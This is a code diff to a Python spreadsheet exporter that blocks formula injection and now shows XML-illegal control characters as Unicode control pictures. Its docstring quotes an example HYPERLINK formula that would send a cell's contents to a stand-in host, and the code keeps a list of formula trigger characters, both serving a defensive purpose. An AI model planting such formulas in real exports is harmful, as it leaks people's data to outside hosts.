@@ -6,7 +6,9 @@ read as a formula, so `=HYPERLINK("http://x/"&A1,"x")` in a visit id would be li
 dispatcher's sheet. In CSV such a cell is prefixed with a single quote. In XLSX every cell from
 input is a text cell, and a formula-looking one also carries Excel's own quote prefix (the
 `quotePrefix` style Excel sets when a user types `'=…`): it shows the text unchanged, and stays
-text when someone edits it. Numbers the exporter writes itself stay numbers.
+text when someone edits it. Numbers the exporter writes itself stay numbers. XML 1.0 cannot
+hold most control characters, so in XLSX each one is shown by its Unicode control picture
+(U+0007 as ␇), never dropped silently and never a failed export.
 """
 
 from __future__ import annotations
@@ -21,6 +23,15 @@ type Value = str | int | float | None
 _TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
 #: What a spreadsheet skips before it looks for a formula.
 _SKIPPED = frozenset("'\"‘’“”")
+
+
+#: C0 controls XML 1.0 refuses (tab, newline and carriage return are allowed) → control pictures.
+_XML_SAFE = {c: 0x2400 + c for c in (*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20))}
+
+
+def xlsx_text(text: str) -> str:
+    """`text` as an XLSX cell can hold it: illegal control characters as their pictures."""
+    return text.translate(_XML_SAFE)
 
 
 def looks_like_formula(text: str) -> bool:
@@ -72,7 +83,7 @@ def table_xlsx(title: str, headers: Sequence[str], rows: Iterable[Sequence[Value
             if isinstance(value, int | float) and not isinstance(value, bool):
                 cell.value = value
             else:
-                cell.value = str(value)
+                cell.value = xlsx_text(str(value))
                 cell.data_type = "s"  # text, even when it starts with "="
                 if looks_like_formula(cell.value):
                     cell.quotePrefix = True
